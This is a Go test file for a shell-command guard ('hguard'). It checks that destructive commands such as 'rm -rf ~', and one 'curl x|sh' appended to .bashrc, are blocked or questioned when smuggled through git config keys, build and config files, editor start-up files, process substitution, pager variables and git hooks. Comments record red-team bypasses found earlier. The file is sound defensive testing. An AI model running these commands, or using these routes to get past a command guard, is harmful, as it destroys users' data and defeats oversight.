package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestGitConfigCommandKeys: git -c and GIT_CONFIG_KEY_n set every key
// whose value git runs (a remote's upload pack, a filter, a textconv, a
// web browser's cmd), not only the pager and editor keys (red team,
// 2026-12-04: git -c remote.origin.uploadpack='rm -rf ~' fetch was
// allowed, the others only asked).
func TestGitConfigCommandKeys(t *testing.T) {
	checkHoles(t, []holeCase{
		{"git -c remote.origin.uploadpack='rm -rf ~' fetch", dsl.Block, dsl.Block},
		{"git -c remote.origin.receivepack='rm -rf ~' push", dsl.Block, dsl.Block},
		{"git -c remote.origin.uploadpack=./x.sh fetch", dsl.Ask, dsl.Ask},
		{"git -c filter.x.clean='rm -rf ~' add .", dsl.Block, dsl.Block},
		{"git -c diff.x.textconv='rm -rf ~' diff", dsl.Block, dsl.Block},
		{"git -c core.askPass='rm -rf ~' fetch", dsl.Block, dsl.Block},
		{"git -c uploadpack.packObjectsHook='rm -rf ~' clone . ../x", dsl.Block, dsl.Block},
		{"git -c tar.tgz.command='rm -rf ~' archive --format=tgz HEAD", dsl.Block, dsl.Block},
		{"git -c web.browser=x -c browser.x.cmd='rm -rf ~' web--browse http://x", dsl.Block, dsl.Block},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.uploadpack GIT_CONFIG_VALUE_0='rm -rf ~' git fetch", dsl.Block, dsl.Block},
		// everyday
		{"git -c remote.origin.prune=true fetch", dsl.Allow, dsl.Allow},
		{"git -c difftool.vscode.cmd='code --wait --diff $LOCAL $REMOTE' difftool -t vscode", dsl.Allow, dsl.Allow},
		{"git -c core.pager=cat log", dsl.Allow, dsl.Allow},
		{"git -c user.name=x commit -m x", dsl.Allow, dsl.Allow},
	})
}

// TestTypeScriptConfigsWrittenOnLine: a tool's TypeScript configuration
// by its default name (vite.config.ts, jest.config.ts, nuxt.config.ts)
// and the test files a runner collects by pattern (x.test.ts), written on
// the line, run as the .js ones do (red team, 2026-12-04: each was
// allowed).
func TestTypeScriptConfigsWrittenOnLine(t *testing.T) {
	const evil = `import {execSync} from "child_process"; execSync("rm -rf ~")`
	checkHoles(t, []holeCase{
		{"echo '" + evil + "' > vite.config.ts; npx vite build", dsl.Block, dsl.Block},
		{"echo '" + evil + "' > jest.config.ts; npx jest", dsl.Block, dsl.Block},
		{"echo '" + evil + "' > nuxt.config.ts; npx nuxi dev", dsl.Block, dsl.Block},
		{"echo '" + evil + "' > playwright.config.ts; npx playwright test", dsl.Block, dsl.Block},
		{"echo '" + evil + "' > eslint.config.mts; npx eslint .", dsl.Block, dsl.Block},
		{"echo '" + evil + "' > x.test.ts; npx vitest run", dsl.Block, dsl.Block},
		{"echo '" + evil + "' > x.test.js; npx vitest run", dsl.Block, dsl.Block},
		{"mkdir -p tests; echo '" + evil + "' > tests/a.test.ts; npx vitest run", dsl.Block, dsl.Block},
		// everyday
		{`echo 'import { defineConfig } from "vite"; export default defineConfig({})' > vite.config.ts; npx vite build`, dsl.Allow, dsl.Allow},
		{`echo 'test("x", () => { expect(1).toBe(1) })' > x.test.ts; npx vitest run`, dsl.Allow, dsl.Allow},
		{`echo 'export default { testEnvironment: "node" }' > jest.config.ts; npx jest`, dsl.Allow, dsl.Allow},
		{"npx vite build", dsl.Allow, dsl.Allow},
	})
}

// TestPHPIniAndRedisScripts: an ini file php is given (-c, PHPRC,
// PHP_INI_SCAN_DIR) names PHP files that run before and after every
// script; redis-cli --eval FILE runs the Lua script FILE holds, and a
// script loaded to be called by its hash later is judged as it loads
// (red team, 2026-12-04: each was allowed).
func TestPHPIniAndRedisScripts(t *testing.T) {
	const evil = `echo '<?php system("rm -rf ~");' > p.php; `
	checkHoles(t, []holeCase{
		{"printf 'auto_prepend_file=p.php\\n' > php.ini; " + evil + "php -c php.ini x.php", dsl.Block, dsl.Block},
		{"printf 'auto_prepend_file = \"p.php\"\\n' > php.ini; " + evil + "php -c . x.php", dsl.Block, dsl.Block},
		{"mkdir d; printf 'auto_append_file=p.php\\n' > d/x.ini; " + evil + "PHP_INI_SCAN_DIR=d php x.php", dsl.Block, dsl.Block},
		{"printf 'auto_prepend_file=p.php\\n' > php.ini; " + evil + "PHPRC=php.ini composer install", dsl.Block, dsl.Block},
		{"echo \"return redis.call('flushall')\" > f.lua; redis-cli --eval f.lua", dsl.Ask, dsl.Ask},
		{"echo \"return redis.call('FLUSHDB')\" > f.lua; redis-cli -h cache --eval f.lua k1 , a1", dsl.Ask, dsl.Ask},
		{"redis-cli SCRIPT LOAD \"return redis.call('flushall')\"", dsl.Ask, dsl.Ask},
		// everyday
		{"printf 'memory_limit=1G\\n' > php.ini; php -c php.ini x.php", dsl.Allow, dsl.Allow},
		{"printf 'auto_prepend_file=b.php\\n' > php.ini; echo '<?php require \"vendor/autoload.php\";' > b.php; php -c php.ini x.php", dsl.Allow, dsl.Allow},
		{"echo \"return redis.call('get', KEYS[1])\" > f.lua; redis-cli --eval f.lua k1", dsl.Allow, dsl.Allow},
		{"redis-cli --eval scripts/rate.lua k1 , 10", dsl.Allow, dsl.Allow},
		{"redis-cli SCRIPT FLUSH", dsl.Allow, dsl.Allow},
	})
}

// TestVimExrcWrittenOnLine: a .vimrc, .exrc or Neovim's .nvim.lua
// written where vim starts is sourced once 'exrc' is on, which a user's
// vimrc or --cmd 'set exrc' turns on (red team, 2026-12-04: each was
// allowed).
func TestVimExrcWrittenOnLine(t *testing.T) {
	checkHoles(t, []holeCase{
		{"echo '!rm -rf ~' > .exrc; vim -c 'set exrc'", dsl.Block, dsl.Block},
		{`echo 'call system("rm -rf ~")' > .vimrc; vim --cmd 'set exrc'`, dsl.Block, dsl.Block},
		{`echo 'call system("rm -rf ~")' > .vimrc; vim main.go`, dsl.Block, dsl.Block},
		{`echo 'os.execute("rm -rf ~")' > .nvim.lua; nvim`, dsl.Block, dsl.Block},
		// everyday, and -u naming the only vimrc
		{`echo 'call system("rm -rf ~")' > .vimrc; vim -u NONE x`, dsl.Allow, dsl.Allow},
		{"echo 'set ts=4 sw=4 et' > .exrc; vim --cmd 'set exrc' main.go", dsl.Allow, dsl.Allow},
		{"echo 'vim.opt.number = true' > .nvim.lua; nvim", dsl.Allow, dsl.Allow},
		{"echo 'rm -rf ~' > f; vim f", dsl.Allow, dsl.Allow},
	})
}

// TestBuildFilesInCodeWrittenOnLine: a Tiltfile's local() and its
// resources' commands, Leiningen's project.clj, sbt's build.sbt and
// Mill's build file, written on the line, run as the tool reads them (red
// team, 2026-12-04: each was allowed).
func TestBuildFilesInCodeWrittenOnLine(t *testing.T) {
	checkHoles(t, []holeCase{
		{`echo 'local("rm -rf ~")' > Tiltfile; tilt up`, dsl.Block, dsl.Block},
		{`echo 'local_resource("x", cmd="rm -rf ~")' > Tiltfile; tilt ci`, dsl.Block, dsl.Block},
		{`echo 'local_resource("x", serve_cmd=["sh", "-c", "rm -rf ~"])' > Tiltfile; tilt up`, dsl.Block, dsl.Block},
		{`echo '(clojure.java.shell/sh "rm" "-rf" "/home/u")' > project.clj; lein test`, dsl.Block, dsl.Block},
		{`echo 'val x = "rm -rf /home/u".!' > build.sbt; sbt compile`, dsl.Block, dsl.Block},
		// everyday
		{`echo 'local_resource("x", cmd="make build", deps=["src"])' > Tiltfile; tilt up`, dsl.Allow, dsl.Allow},
		{`echo 'docker_build("app", ".")' > Tiltfile; tilt up`, dsl.Allow, dsl.Allow},
		{`echo '(defproject app "0.1.0" :dependencies [[org.clojure/clojure "1.11.1"]])' > project.clj; lein test`, dsl.Allow, dsl.Allow},
		{`echo 'scalaVersion := "3.3.1"' > build.sbt; sbt compile`, dsl.Allow, dsl.Allow},
		{"tilt up", dsl.Allow, dsl.Allow},
	})
}

// TestRelativeHistoryFile: a relative HISTFILE is where the shell runs,
// so one named from the home, or up to it, is a start-up file as ~/.bashrc
// is; export and declare run where an earlier cd moved, too (red team,
// 2026-12-04: each was allowed).
func TestRelativeHistoryFile(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cd ~ && HISTFILE=.bashrc bash -i", dsl.Ask, dsl.Ask},
		{"HISTFILE=../.bashrc bash -i", dsl.Ask, dsl.Ask},
		{"cd ~ && export HISTFILE=.zshrc", dsl.Ask, dsl.Ask},
		{"cd ~; declare -x HISTFILE=.bashrc", dsl.Ask, dsl.Ask},
		// everyday
		{"HISTFILE=.bashrc bash -i", dsl.Allow, dsl.Allow},
		{"cd ~ && HISTFILE=.bash_history bash -i", dsl.Allow, dsl.Allow},
		{"cd /tmp && export HISTFILE=.bashrc", dsl.Allow, dsl.Allow},
		{"cd ~ && export EDITOR=vim", dsl.Allow, dsl.Allow},
	})
}

// TestMailcapWrittenOnLine: run-mailcap and see run the view command of
// the mailcap files MAILCAPS names, and an entry's test=CMD (red team,
// 2026-12-04: each was allowed).
func TestMailcapWrittenOnLine(t *testing.T) {
	checkHoles(t, []holeCase{
		{"printf 'text/plain; rm -rf ~\\n' > mc; MAILCAPS=mc run-mailcap --action=view x.txt", dsl.Block, dsl.Block},
		{"printf 'text/plain; rm -rf ~\\n' > mc; MAILCAPS=mc see x.txt", dsl.Block, dsl.Block},
		{"printf 'text/plain; cat %%s; test=rm -rf ~\\n' > mc; MAILCAPS=mc see x.txt", dsl.Block, dsl.Block},
		// everyday
		{"printf 'text/plain; less %%s; copiousoutput\\n' > mc; MAILCAPS=mc see x.txt", dsl.Allow, dsl.Allow},
		{"see x.txt", dsl.Allow, dsl.Allow},
	})
}

// TestProcessSubstitutionFiles: a <(…) whose output is known, given to a
// program as the file it runs or is configured by, is that file: the
// shell passes /dev/fd/N (red team, 2026-12-04: each was allowed, though
// the same text written to a file first was judged).
func TestProcessSubstitutionFiles(t *testing.T) {
	checkHoles(t, []holeCase{
		{`make -f <(printf 'all:\n\trm -rf ~\n')`, dsl.Block, dsl.Block},
		{`vim -S <(echo ':!rm -rf ~')`, dsl.Block, dsl.Block},
		{`gdb -x <(echo 'shell rm -rf ~')`, dsl.Block, dsl.Block},
		{`tmux source-file <(echo 'run-shell "rm -rf ~"')`, dsl.Block, dsl.Block},
		{`ssh -F <(printf 'Host x\n ProxyCommand rm -rf ~\n') x`, dsl.Block, dsl.Block},
		{`gradle --init-script <(echo 'exec { commandLine "rm", "-rf", "/home/u" }')`, dsl.Block, dsl.Block},
		// everyday
		{"diff <(sort a) <(sort b)", dsl.Allow, dsl.Allow},
		{"diff <(echo 'rm -rf ~') <(echo b)", dsl.Allow, dsl.Allow},
		{"cat <(echo 'rm -rf ~')", dsl.Allow, dsl.Allow},
		{"vim <(echo 'rm -rf ~')", dsl.Allow, dsl.Allow},
		{"kubectl apply -f <(echo 'apiVersion: v1')", dsl.Allow, dsl.Allow},
		{"helm install x ./chart -f <(echo 'a: 1')", dsl.Allow, dsl.Allow},
		{"ssh -F <(printf 'Host x\n HostName 10.0.0.1\n') x", dsl.Allow, dsl.Allow},
		{"python3 x.py <(echo 'rm -rf ~')", dsl.Allow, dsl.Allow},
	})
}

// TestPackageManagerShellLines: npm exec -c (--call), pnpm's shell mode,
// bun exec and npm explore PKG -- CMD run a shell line; an exported
// editor or pager, and gh's, aws's and the like's, run for the programs
// after it (red team, 2026-12-04: each was allowed).
func TestPackageManagerShellLines(t *testing.T) {
	checkHoles(t, []holeCase{
		{"npm exec -c 'rm -rf ~'", dsl.Block, dsl.Block},
		{"npm x --call 'rm -rf ~'", dsl.Block, dsl.Block},
		{"npm exec --call='rm -rf ~'", dsl.Block, dsl.Block},
		{"pnpm exec -c 'rm -rf ~'", dsl.Block, dsl.Block},
		{"pnpm -c exec 'rm -rf ~'", dsl.Block, dsl.Block},
		{"bun exec 'rm -rf ~'", dsl.Block, dsl.Block},
		{"npm explore x -- rm -rf ~", dsl.Block, dsl.Block},
		{"export EDITOR='rm -rf ~'; git commit", dsl.Block, dsl.Block},
		{"export GIT_PAGER='rm -rf ~'; git log", dsl.Block, dsl.Block},
		{"GH_EDITOR='rm -rf ~' gh pr create", dsl.Block, dsl.Block},
		{"AWS_PAGER='rm -rf ~' aws s3 ls", dsl.Block, dsl.Block},
		// everyday
		{"npm exec -- eslint .", dsl.Allow, dsl.Allow},
		{"npm exec -c 'eslint .'", dsl.Allow, dsl.Allow},
		{"bun x prettier --write .", dsl.Allow, dsl.Allow},
		{"npm explore lodash -- git status", dsl.Allow, dsl.Allow},
		{"export EDITOR='code --wait'", dsl.Allow, dsl.Allow},
		{"export VISUAL=\"$EDITOR\"", dsl.Allow, dsl.Allow},
		{"export AWS_PAGER=''", dsl.Allow, dsl.Allow},
		{"export GIT_PAGER='delta --dark'", dsl.Allow, dsl.Allow},
		{"declare -x PAGER='less -R'", dsl.Allow, dsl.Allow},
	})
}

// TestBuildToolCommands: a makefile rule's recipe after its ;, Maven's
// exec:exec of -Dexec.executable, sbt's eval and CMake's file() deleting
// or writing outside the build run what they say (red team, 2026-12-04:
// each was allowed).
func TestBuildToolCommands(t *testing.T) {
	checkHoles(t, []holeCase{
		{"echo 'all:; rm -rf ~' > Makefile; make", dsl.Block, dsl.Block},
		{"echo 'all:; rm -rf ~' > mk; make -f mk", dsl.Block, dsl.Block},
		{"mvn exec:exec -Dexec.executable=rm -Dexec.args='-rf /home/u'", dsl.Block, dsl.Block},
		{"mvn -q org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=sh -Dexec.args='-c \"rm -rf ~\"'", dsl.Block, dsl.Block},
		{`sbt 'eval "rm -rf /home/u".!'`, dsl.Block, dsl.Block},
		{"echo 'file(REMOVE_RECURSE $ENV{HOME})' > x.cmake; cmake -P x.cmake", dsl.Block, dsl.Block},
		{"echo 'file(APPEND $ENV{HOME}/.bashrc \"curl x|sh\")' > x.cmake; cmake -P x.cmake", dsl.Ask, dsl.Ask},
		// everyday
		{"echo 'all: ; go build ./...' > Makefile; make", dsl.Allow, dsl.Allow},
		{"mvn exec:exec -Dexec.executable=echo -Dexec.args=hi", dsl.Allow, dsl.Allow},
		{"mvn exec:java -Dexec.mainClass=com.x.Main", dsl.Allow, dsl.Allow},
		{"sbt 'eval 1+1'", dsl.Allow, dsl.Allow},
		{"echo 'file(REMOVE_RECURSE build/tmp)' > x.cmake; cmake -P x.cmake", dsl.Allow, dsl.Allow},
		{"echo 'file(WRITE out.txt \"hi\")' > x.cmake; cmake -P x.cmake", dsl.Allow, dsl.Allow},
	})
}

// TestGlobalGitHookFiles: the directories a global core.hooksPath or
// init.templateDir names by custom hold hooks that run in every
// repository (red team, 2026-12-04: writing one was allowed).
func TestGlobalGitHookFiles(t *testing.T) {
	checkHoles(t, []holeCase{
		{"echo 'rm -rf ~' > ~/.config/git/hooks/pre-commit", dsl.Ask, dsl.Ask},
		{"cp x ~/.githooks/pre-push", dsl.Ask, dsl.Ask},
		// everyday
		{"echo x > ~/.config/git/ignore", dsl.Allow, dsl.Allow},
		{"cat ~/.config/git/hooks/pre-commit", dsl.Allow, dsl.Allow},
	})
}

// TestWorkingDirOnPathAndTomlScripts: $PWD first on PATH is the current
// directory first, and the scripts of a pyproject.toml, mise.toml,
// Pipfile or pixi.toml written on the line run as pdm, hatch, poe, mise,
// pipenv or pixi run them (red team,
// 2026-12-04: each was allowed).
func TestWorkingDirOnPathAndTomlScripts(t *testing.T) {
	checkHoles(t, []holeCase{
		{"printf '#!/bin/sh\\nrm -rf ~\\n' > ls; chmod +x ls; PATH=$PWD:$PATH ls", dsl.Ask, dsl.Ask},
		{"export PATH=$PWD:$PATH", dsl.Ask, dsl.Ask},
		{"printf '[tool.poe.tasks]\\nx = \"rm -rf ~\"\\n' > pyproject.toml; poe x", dsl.Block, dsl.Block},
		{"printf '[tool.pdm.scripts]\\nx = \"rm -rf ~\"\\n' > pyproject.toml; pdm run x", dsl.Block, dsl.Block},
		{"printf '[tool.hatch.envs.default.scripts]\\nx = \"rm -rf ~\"\\n' > pyproject.toml; hatch run x", dsl.Block, dsl.Block},
		{"printf '[scripts]\\nx = \"rm -rf ~\"\\n' > Pipfile; pipenv run x", dsl.Block, dsl.Block},
		{"printf '[tasks]\\nx = \"rm -rf ~\"\\n' > pixi.toml; pixi run x", dsl.Block, dsl.Block},
		// everyday
		{"export PATH=$PWD/node_modules/.bin:$PATH", dsl.Allow, dsl.Allow},
		{"export PATH=$PATH:$PWD", dsl.Allow, dsl.Allow},
		{"printf '[tool.pdm.scripts]\\nx = \"pytest -q\"\\n' > pyproject.toml; pdm run x", dsl.Allow, dsl.Allow},
		{"printf '[project]\\nname = \"x\"\\n' > pyproject.toml; pdm install", dsl.Allow, dsl.Allow},
		{"printf '[scripts]\\ntest = \"pytest -q\"\\n' > Pipfile; pipenv run test", dsl.Allow, dsl.Allow},
		{"printf '[packages]\\nrequests = \"*\"\\n' > Pipfile; pipenv install", dsl.Allow, dsl.Allow},
	})
}

// TestGitCloneConfigAndTemplate: git clone --config KEY=CMD sets the new
// repository's configuration, whose core.fsmonitor runs at the checkout,
// and a template directory's hooks written on the line run in the clone
// (red team, 2026-12-04: each was allowed).
func TestGitCloneConfigAndTemplate(t *testing.T) {
	checkHoles(t, []holeCase{
		{"git clone --config core.fsmonitor='rm -rf ~' https://github.com/x/y", dsl.Block, dsl.Block},
		{"git clone --config=core.sshCommand='rm -rf ~' git@x:y", dsl.Block, dsl.Block},
		{"mkdir -p t/hooks; printf '#!/bin/sh\\nrm -rf ~\\n' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y", dsl.Block, dsl.Block},
		{"mkdir -p t/hooks; printf '#!/bin/sh\\nrm -rf ~\\n' > t/hooks/post-checkout; git -c init.templateDir=t clone https://github.com/x/y", dsl.Block, dsl.Block},
		// everyday
		{"git clone --config core.autocrlf=false https://github.com/x/y", dsl.Allow, dsl.Allow},
		{"git clone --template=/usr/share/git-core/templates https://github.com/x/y", dsl.Allow, dsl.Allow},
		{"mkdir -p t/hooks; echo 'npm test' > t/hooks/pre-commit; git init --template=t z", dsl.Allow, dsl.Allow},
		{"git clone https://github.com/x/y", dsl.Allow, dsl.Allow},
	})
}
